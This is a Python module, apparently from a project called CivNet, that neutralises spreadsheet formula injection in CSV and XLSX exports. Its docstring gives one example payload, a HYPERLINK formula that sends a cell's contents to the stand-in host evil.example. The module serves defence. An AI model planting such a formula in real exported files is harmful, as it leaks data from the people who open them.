"""Cells of the CSV and XLSX files CivNet writes, which partners and donors open in spreadsheets.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by Excel and
LibreOffice (OWASP "CSV injection"): `=HYPERLINK("http://evil.example/?leak="&A3, "Click")` leaks the sheet. In
CSV such a cell gets a leading apostrophe, which spreadsheets show as text; CivNet's own imports remove it again
(`from_csv_cell`). In XLSX every text is written as a string cell, never a formula."""

from openpyxl.cell import WriteOnlyCell

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """The value to write in a CSV cell: text that a spreadsheet would run is neutralised."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def from_csv_cell(value: str) -> str:
    """The text a CSV cell written by `csv_cell` stood for (what a person typed)."""
    if value.startswith("'") and value[1:2] and value[1:].startswith(_FORMULA_START):
        return value[1:]
    return value


def xlsx_cells(sheet, values) -> list:
    """A row for `sheet.append` where every text is a string cell: openpyxl would store a text starting with "="
    as a live formula. Works on normal and write-only sheets (write-only is what large exports use)."""
    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet, value=value)
        if cell.data_type == "f":
            cell.data_type = "s"
        cells.append(cell)
    return cells
